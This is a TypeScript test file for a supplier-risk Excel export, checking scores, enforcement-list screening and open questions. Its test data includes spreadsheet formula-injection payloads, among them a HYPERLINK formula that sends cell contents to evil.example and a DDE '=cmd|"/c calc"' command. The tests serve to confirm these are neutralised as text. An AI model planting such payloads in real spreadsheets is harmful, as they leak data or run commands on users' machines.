import { PassThrough } from 'node:stream';
import { describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import { priorityReason } from '../../scoring/domain/priority.js';
import { EXPORT_COLUMNS, writeSupplierExport, type ExportRow } from './supplier-export.js';
import {
  makeAssessment,
  makeOpenQuestion,
  makeRangedAssessment,
  makeSupplier,
  makeUncertainty,
  RULE_SET_HASH,
  SUPPLIER_NAMES,
} from './testing/report-factories.js';

const FORMULA_LIKE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+1',
  '-2',
  '@SUM(A1:A2)',
  '\tx',
  '\rcmd|calc',
];

// XML turns a carriage return into a line feed when the workbook is read (XML 1.0, end-of-line handling); Excel
// reads it the same way. Everything else must come back byte for byte.
function asRead(text: string | undefined): string | undefined {
  return text?.replace(/\r\n?/g, '\n');
}

async function* rowsOf(rows: ExportRow[]): AsyncGenerator<ExportRow> {
  for (const row of rows) {
    // Like a database cursor: each row arrives in its own turn of the event loop.
    yield await Promise.resolve(row);
  }
}

async function exportToBuffer(rows: ExportRow[]): Promise<{ buffer: Buffer; written: number }> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (chunk: Buffer) => chunks.push(chunk));
  const finished = new Promise<void>((resolve) => out.on('end', resolve));
  const summary = await writeSupplierExport(rowsOf(rows), out, {
    generatedAt: '2025-01-20T14:05:00.000Z',
    generatedBy: '=cmd|"/c calc"!A1',
    ruleSetName: 'vigil-default',
    ruleSetVersion: '2025.1',
    ruleSetHash: RULE_SET_HASH,
  });
  await finished;
  return { buffer: Buffer.concat(chunks), written: summary.rows };
}

async function readWorkbook(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  // exceljs declares its own Buffer type; a Node Buffer is what it reads.
  await workbook.xlsx.load(buffer as unknown as Parameters<typeof workbook.xlsx.load>[0]);
  return workbook;
}

function column(header: string): number {
  return EXPORT_COLUMNS.findIndex((candidate) => candidate.header === header) + 1;
}

describe(writeSupplierExport.name, () => {
  it('round-trips 1,000 suppliers with formula-looking values intact as text and no formula anywhere', async () => {
    const rows: ExportRow[] = Array.from({ length: 1000 }, (_, index) => {
      const hostile = FORMULA_LIKE[index % FORMULA_LIKE.length];
      return {
        supplierId: `id-${index}`,
        supplier: makeSupplier({
          name: index % 7 === 0 ? hostile : `${SUPPLIER_NAMES.polish} ${index}`,
          externalRef: hostile,
          city: hostile,
        }),
        assessment: makeAssessment({ recommendedActions: [hostile, 'Audit the supplier.'] }),
      };
    });

    const { buffer, written } = await exportToBuffer(rows);

    expect(written).toBe(1000);
    const workbook = await readWorkbook(buffer);
    const sheet = workbook.getWorksheet('Suppliers');
    expect(sheet?.rowCount).toBe(1001);
    rows.forEach((row, index) => {
      const excelRow = sheet!.getRow(index + 2);
      const ref = excelRow.getCell(column('Supplier ID'));
      expect(ref.value).toBe(asRead(row.supplier.externalRef));
      expect(ref.type).toBe(ExcelJS.ValueType.String);
      expect(ref.numFmt).toBe('@');
      expect(excelRow.getCell(column('Supplier name')).value).toBe(asRead(row.supplier.name));
      expect(excelRow.getCell(column('City')).value).toBe(asRead(row.supplier.city));
      expect(excelRow.getCell(column('Recommended actions')).value).toBe(
        asRead(`${row.assessment!.recommendedActions[0]}\nAudit the supplier.`),
      );
    });
    sheet!.eachRow((excelRow) =>
      excelRow.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula).toBeUndefined();
      }),
    );
  });

  it('writes scores, tiers, red flags, main drivers and missing data for each supplier', async () => {
    const assessment = makeAssessment();

    const { buffer } = await exportToBuffer([{ supplier: makeSupplier(), assessment }]);

    const workbook = await readWorkbook(buffer);
    const row = workbook.getWorksheet('Suppliers')!.getRow(2);
    expect(row.getCell(column('Score')).value).toBe(60);
    expect(row.getCell(column('Risk tier')).value).toBe('High');
    expect(row.getCell(column('Red flags')).value).toBe(1);
    expect(row.getCell(column('Red flag details')).value).toBe(
      'ILO indicator reported: excessive overtime: Excessive overtime: yes (reported in the supplier file)',
    );
    expect(row.getCell(column('Main drivers')).value).toBe(
      'Sector: garments and textiles (+15)\nCountry: US TIP tier (+12)\nGoods on the US DOL list (+10)',
    );
    expect(row.getCell(column('Country')).value).toBe('Vietnam');
    expect(row.getCell(column('Data completeness')).value).toBe(0.82);
    expect(row.getCell(column('Rule-set hash')).value).toBe(RULE_SET_HASH);
    expect(row.getCell(column('Score')).numFmt).toBe('0.0');
  });

  it("writes the supplier's own columns under the labels the report and the dashboard use", async () => {
    const { buffer } = await exportToBuffer([{ supplier: makeSupplier() }]);

    const sheet = (await readWorkbook(buffer)).getWorksheet('Suppliers')!;
    const cells = (row: number) =>
      Array.from({ length: 15 }, (_, index) => sheet.getRow(row).getCell(index + 1).value);
    expect(cells(1)).toEqual([
      'Supplier ID',
      'Supplier name',
      'Country code',
      'Country',
      'Region / province',
      'City',
      'Address',
      'Sector',
      'Sub-sector',
      'Products',
      'Supply-chain tier',
      'Workers',
      'Uses labour agencies or brokers',
      'Annual spend',
      'Currency',
    ]);
    expect(cells(2)).toEqual([
      'V-10442',
      SUPPLIER_NAMES.vietnamese,
      'VN',
      'Vietnam',
      'Hồ Chí Minh',
      'Thành phố Hồ Chí Minh',
      '12 Đường Nguyễn Văn Linh, Quận 7',
      'Garments',
      'cut-make-trim',
      'knitted garments; cotton t-shirts',
      1,
      1250,
      'yes',
      2_450_000,
      'USD',
    ]);
    expect(sheet.getRow(2).getCell(column('Workers')).numFmt).toBe('#,##0');
  });

  it('tells two sites of one group in one city apart by the address beside the city', async () => {
    const site = (address: string) => ({
      supplier: makeSupplier({ parentCompany: 'Saigon Apparel Holdings', address }),
    });

    const { buffer } = await exportToBuffer([site('12 Nguyễn Văn Linh'), site('48 Nguyễn Văn Linh')]);

    const sheet = (await readWorkbook(buffer)).getWorksheet('Suppliers')!;
    expect(column('Address')).toBe(column('City') + 1);
    expect([2, 3].map((row) => sheet.getRow(row).getCell(column('Address')).value)).toEqual([
      '12 Nguyễn Văn Linh',
      '48 Nguyễn Văn Linh',
    ]);
  });

  it('marks suppliers that were never assessed instead of leaving the tier blank', async () => {
    const { buffer } = await exportToBuffer([{ supplier: makeSupplier({ name: SUPPLIER_NAMES.bengali }) }]);

    const workbook = await readWorkbook(buffer);
    const row = workbook.getWorksheet('Suppliers')!.getRow(2);
    expect(row.getCell(column('Supplier name')).value).toBe(SUPPLIER_NAMES.bengali);
    expect(row.getCell(column('Risk tier')).value).toBe('Not assessed');
    expect(row.getCell(column('Score')).value).toBeNull();
  });

  it('describes the export on a second sheet, neutralising the user name too', async () => {
    const { buffer } = await exportToBuffer([]);

    const workbook = await readWorkbook(buffer);
    const about = workbook.getWorksheet('About this export')!;
    const facts = new Map<string, unknown>();
    about.eachRow((row, number) => {
      if (number > 1) {
        facts.set(row.getCell(1).text, row.getCell(2).value);
      }
    });
    expect(facts.get('Rule-set hash')).toBe(RULE_SET_HASH);
    expect(facts.get('Suppliers')).toBe('0');
    expect(facts.get('Generated by')).toBe('=cmd|"/c calc"!A1');
    expect(about.getRow(3).getCell(2).numFmt).toBe('@');
  });

  describe('screening against enforcement lists', () => {
    const listing = {
      list: 'uflpa' as const,
      editionAsOf: '2026-08-03',
      entryName: 'Hetian Taida Apparel Co., Ltd',
      section: '2(d)(2)(B)(i)',
      effectiveDate: '2022-06-21',
      matched: 'Hetian Taida Apparel Co., Ltd',
      party: 'supplier name "Hotan Taida Apparel"',
      decidedBy: 'li.wei@example.com',
      decidedOn: '2025-01-14',
      reason: 'Same company: address and registration number match the listing',
    };

    it("writes each supplier's status with its counts, and a priority reason that counts the hits awaiting review", async () => {
      const assessment = makeRangedAssessment();
      const rows: ExportRow[] = [
        { supplier: makeSupplier({ name: 'never raised' }), assessment, screening: null },
        {
          supplier: makeSupplier({ name: 'two open' }),
          assessment,
          screening: { confirmed: [], openHits: 2 },
        },
        {
          supplier: makeSupplier({ name: 'confirmed and open' }),
          assessment,
          screening: { confirmed: [listing], openHits: 1 },
        },
        { supplier: makeSupplier({ name: 'not assessed' }), screening: { confirmed: [], openHits: 1 } },
      ];

      const { buffer } = await exportToBuffer(rows);

      const sheet = (await readWorkbook(buffer)).getWorksheet('Suppliers')!;
      const cells = (header: string) =>
        [2, 3, 4, 5].map((row) => sheet.getRow(row).getCell(column(header)).value);
      expect(cells('Screening')).toEqual([
        'Clear',
        'Awaiting review (2)',
        'Confirmed (1); awaiting review (1)',
        'Awaiting review (1)',
      ]);
      expect(cells('Priority reason')).toEqual([
        priorityReason(assessment),
        priorityReason({ ...assessment, openScreeningHits: 2 }),
        priorityReason({ ...assessment, openScreeningHits: 1 }),
        null,
      ]);
      expect(cells('Priority reason')[1]).toContain('2 enforcement-list hits awaiting review (ask first)');
      // Written through the same neutralising writer as every other cell: plain text, never a formula.
      const cell = sheet.getRow(3).getCell(column('Screening'));
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    });
  });

  describe('ranges and open questions', () => {
    const UNCERTAINTY_COLUMNS = [
      'Range low',
      'Range high',
      'Could reach',
      'Confidence',
      'Confidence %',
      'Open questions',
    ];

    it('writes the range, confidence, "could reach", priority reason and each follow-up once', async () => {
      const shared = 'Ask for the payroll register of the last three months.';
      const uncertainty = makeUncertainty({
        range: { low: 41.5, high: 77.25 },
        openQuestions: [
          makeOpenQuestion({ indicatorId: 'ilo-wages', followUp: shared, couldRaiseRedFlag: true }),
          makeOpenQuestion({ indicatorId: 'workforce-overtime', followUp: 'Ask for working-hour records.' }),
          makeOpenQuestion({ indicatorId: 'ilo-deductions', followUp: shared }),
        ],
      });
      const assessment = makeRangedAssessment({ uncertainty });

      const { buffer } = await exportToBuffer([{ supplier: makeSupplier(), assessment }]);

      const row = (await readWorkbook(buffer)).getWorksheet('Suppliers')!.getRow(2);
      const cell = (header: string) => row.getCell(column(header));
      expect(cell('Range low').value).toBe(uncertainty.range.low);
      expect(cell('Range high').value).toBe(uncertainty.range.high);
      expect(cell('Could reach').value).toBe('Critical');
      expect(cell('Confidence').value).toBe('Medium');
      expect(cell('Confidence %').value).toBe(uncertainty.confidence);
      expect(cell('Confidence %').numFmt).toBe('0%');
      expect(cell('Priority reason').value).toBe(priorityReason(assessment));
      expect(cell('Open questions').value).toBe(`${shared}\nAsk for working-hour records.`);
    });

    it('leaves them empty for an assessment made before ranges, which still has its priority reason', async () => {
      const assessment = makeAssessment();

      const { buffer } = await exportToBuffer([{ supplier: makeSupplier(), assessment }]);

      const row = (await readWorkbook(buffer)).getWorksheet('Suppliers')!.getRow(2);
      for (const header of UNCERTAINTY_COLUMNS) {
        expect([header, row.getCell(column(header)).value]).toEqual([header, null]);
      }
      expect(row.getCell(column('Priority reason')).value).toBe(priorityReason(assessment));
    });

    it('keeps a formula-looking follow-up as text', async () => {
      const followUp = '=HYPERLINK("http://evil.example","ask")';
      const assessment = makeRangedAssessment({
        uncertainty: makeUncertainty({ openQuestions: [makeOpenQuestion({ followUp })] }),
      });

      const { buffer } = await exportToBuffer([{ supplier: makeSupplier(), assessment }]);

      const cell = (await readWorkbook(buffer))
        .getWorksheet('Suppliers')!
        .getRow(2)
        .getCell(column('Open questions'));
      expect(cell.value).toBe(followUp);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.numFmt).toBe('@');
    });
  });
});
